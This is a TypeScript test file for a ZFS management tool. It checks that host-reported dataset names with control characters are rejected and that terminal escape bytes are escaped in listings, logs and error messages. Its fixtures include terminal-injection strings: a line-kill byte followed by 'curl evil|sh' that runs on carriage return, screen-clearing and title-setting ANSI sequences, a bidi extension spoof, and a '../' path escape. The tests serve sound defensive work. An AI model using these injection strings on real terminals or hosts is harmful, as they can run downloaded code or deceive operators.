/**
 * What a host says is untrusted: names that break the ZFS rules are left out of a listing (the rest
 * stays), and control bytes never reach a terminal, a document, the CLI or the log raw. The listing
 * is zfs-fuse's recorded `zfs get -r` of the lab's zfs-hdd, with lines a hostile or broken host
 * could add (real ZFS refuses such names, so they can only be added to the recording).
 */
import { describe, expect, it } from 'vitest';
import { buildListing } from '../../../src/core/fleet/listing.js';
import { safeLogger } from '../../../src/core/log.js';
import { hasControl, safeLine, safeText } from '../../../src/core/text.js';
import { ZfsError } from '../../../src/core/zfs/errors.js';
import { hostNameProblem, parseZfsName } from '../../../src/core/zfs/names.js';
import { parseZfsGetTriples } from '../../../src/core/zfs/parse.js';
import type { ZfsCapabilities } from '../../../src/core/zfs/types.js';
import { recorded } from './fixtures.js';

const caps = {
  implementation: 'zfs-fuse',
  versionText: 'zfs-fuse 0.7.0',
  listParsable: false,
  json: false,
  zpoolParsable: false,
  properties: ['createtxg', 'userrefs'],
  holds: true,
  bookmarks: false,
  resumeTokens: false,
  allow: false,
  sendEstimate: false,
} as ZfsCapabilities;

/** Each hostile object as `zfs get` triples. */
function triples(name: string, props: Record<string, string>): string {
  return Object.entries(props)
    .map(([p, v]) => `${name}\t${p}\t${v}\n`)
    .join('');
}

const HOSTILE = [
  'zfs-hdd/off@x\x15curl evil|sh\r', // C-u kills the typed line, the command runs on CR
  'zfs-hdd/\x1b[2J\x1b[Hfake', // clears the screen
  'zfs-hdd/off/del\x7f',
  'zfs-hdd/off/c1\u009b31m',
  'zfs-hdd/off/bidi\u202eexe.txt',
  'zfs-hdd/off/../escape',
];

describe('names read from a host', () => {
  const rec = recorded('zfs-fuse', 'get-r-zfs-hdd');
  let stdout = rec.stdout;
  for (const n of HOSTILE) stdout += triples(n, { type: n.includes('@') ? 'snapshot' : 'filesystem', creation: '1795309399', used: '0', guid: '42' });
  stdout += triples('zfs-hdd/off/evil-clone', { type: 'filesystem', creation: '1795309399', used: '0', guid: '43', origin: 'zfs-hdd/off@s\x1b]0;title\x07' });
  const listing = buildListing('off1', caps, [], parseZfsGetTriples(stdout, rec.cmd));
  const good = buildListing('off1', caps, [], parseZfsGetTriples(rec.stdout, rec.cmd));

  it('leaves out every object whose name breaks the rules, and says why, with the name escaped', () => {
    expect(listing.rejected.map((r) => r.name)).toEqual([...HOSTILE.map(safeLine), 'zfs-hdd/off/evil-clone']);
    for (const r of listing.rejected) expect(hasControl(r.name + r.reason)).toBe(false);
    expect(listing.rejected[0]!.reason).toMatch(/invalid character control character U\+0015/);
    expect(listing.rejected[5]!.reason).toMatch(/'\.\.' is not a valid component/);
    expect(listing.rejected[6]!.reason).toMatch(/invalid origin "zfs-hdd\/off@s\\x1b\]0;title\\x07"/);
  });

  it('lists the rest of the host exactly as without them', () => {
    expect([...listing.datasets.keys()]).toEqual([...good.datasets.keys()]);
    expect(listing.snapshotCount).toBe(good.snapshotCount);
    expect(good.rejected).toEqual([]);
  });

  it('the fast path for common names agrees with the full OpenZFS name check', () => {
    const alphabet = ['a', 'Z', '9', '-', '-', '/', '_', '.', ':', ' ', '%', '/', '@', '#', '\x1b', '\x15', '\x7f', 'é', '\t', '\n', '+'];
    let seed = 7;
    const rnd = (n: number) => (seed = (seed * 1103515245 + 12345) & 0x7fffffff) % n;
    for (let i = 0; i < 20_000; i++) {
      let name = rnd(4) === 0 ? '' : 'tank';
      const len = rnd(24);
      for (let j = 0; j < len; j++) name += alphabet[rnd(alphabet.length)];
      let full = /^[A-Za-z]/.test(name);
      try {
        parseZfsName(name);
      } catch {
        full = false;
      }
      expect(hostNameProblem(name) === undefined, JSON.stringify(name)).toBe(full);
    }
    expect(hostNameProblem(`tank/${'a/'.repeat(49)}b`)).toMatch(/nested too deeply/);
    expect(hostNameProblem(`tank/${'a'.repeat(260)}`)).toMatch(/too long/);
    expect(hostNameProblem('-rf/x@s')).toMatch(/must begin with a letter/);
    expect(hostNameProblem('9tank/x')).toMatch(/must begin with a letter/);
  });
});

describe('host text on its way out', () => {
  it('escapes C0, DEL, C1 and direction overrides; keeps newlines and tabs in multi-line text only', () => {
    expect(safeText('a\x1b[31mb\r\x15c\x7f\u009bd\u202ee\n\tf')).toBe('a\\x1b[31mb\\x0d\\x15c\\x7f\\x9bd\\u{202e}e\n\tf');
    expect(safeLine('a\nb\tc')).toBe('a\\x0ab\\x09c');
    expect(safeLine('zfs-hdd/off/my data@2023-05-01')).toBe('zfs-hdd/off/my data@2023-05-01');
    expect(hasControl('plain é')).toBe(false);
    expect(hasControl('x\x15')).toBe(true);
  });
});

describe('host text in the log and in errors', () => {
  it("safeLogger escapes what reaches the log (the extension's channel and the CLI's stderr)", () => {
    const seen: string[] = [];
    const inner = {
      trace: (m: string) => seen.push(m),
      debug: (m: string) => seen.push(m),
      info: (m: string) => seen.push(m),
      warn: (m: string) => seen.push(m),
      error: (m: string) => seen.push(m),
    };
    const log = safeLogger(inner);
    log.warn('off1: left out \x1b[2Jx\x15y\r');
    log.error('multi\nline\tok');
    expect(seen).toEqual(['off1: left out \\x1b[2Jx\\x15y\\x0d', 'multi\nline\tok']);
  });

  it("a zfs error's message (shown in VS Code, printed by the CLI) has the host's control bytes escaped", () => {
    const e = new ZfsError('off1', ['zfs', 'list', 'x'], 1, "cannot open 'x': \x1b]0;pwned\x07dataset does not exist\n");
    expect(hasControl(e.message.replace(/\n/g, ''))).toBe(false);
    expect(e.message).toContain('\\x1b]0;pwned\\x07dataset does not exist');
    expect(e.kind).toBe('not-found');
  });
});
